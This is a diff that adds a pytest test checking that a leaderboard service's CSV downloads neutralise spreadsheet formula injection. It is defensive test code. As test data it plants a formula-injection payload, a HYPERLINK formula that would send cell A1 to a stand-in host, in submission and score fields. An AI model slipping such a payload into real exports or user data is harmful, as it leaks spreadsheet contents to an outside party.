@@ -351,3 +351,33 @@ def test_a_label_batch_warms_the_public_boards_and_keeps_their_critical_values(w
     cache.clear()  # nothing kept: the draws are made
     with pytest.raises(AssertionError, match="computed again"):
         lb.build(corpus, level="instance")
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff20"])
+def test_every_csv_download_neutralises_formulas(world, start):
+    """Every text cell of every CSV download goes through one writer (web/csv_download.py): a team's strings, and
+    the service's own (estimator, details), never start a formula; numbers stay numbers."""
+    corpus, a, b = world
+    _publish(a, b)
+    evil = start + "HYPERLINK(\"http://x/?\"&A1)"
+    Submission.objects.filter(pk=a.pk).update(run_id=evil, description=evil, link=evil)
+    Score.objects.filter(submission=a).update(estimator=evil, recall_protocol=start + "x", p=-0.0)
+    alice = Client()
+    alice.force_login(_user("alice", team=a.team))
+    board = alice.get(reverse("web:leaderboard_csv", args=[corpus.name]) + "?level=instance")
+    scores = alice.get(reverse("web:submission_scores", args=[a.pk, "csv"]))
+    for resp in (board, scores):
+        assert resp.status_code == 200
+        rows = list(csv.reader(io.StringIO(resp.content.decode())))
+        cells = [c for row in rows[1:] for c in row]
+        assert evil in [c[1:] for c in cells if c.startswith("'")]
+        assert not any(c[:1] in ("=", "+", "@", "\t", "\r", "\n", "\uff1d", "\uff20") for c in cells), rows
+        assert not any(c[:1] == "-" and not _number(c) for c in cells), rows
+
+
+def _number(text: str) -> bool:
+    try:
+        float(text)
+    except ValueError:
+        return False
+    return True
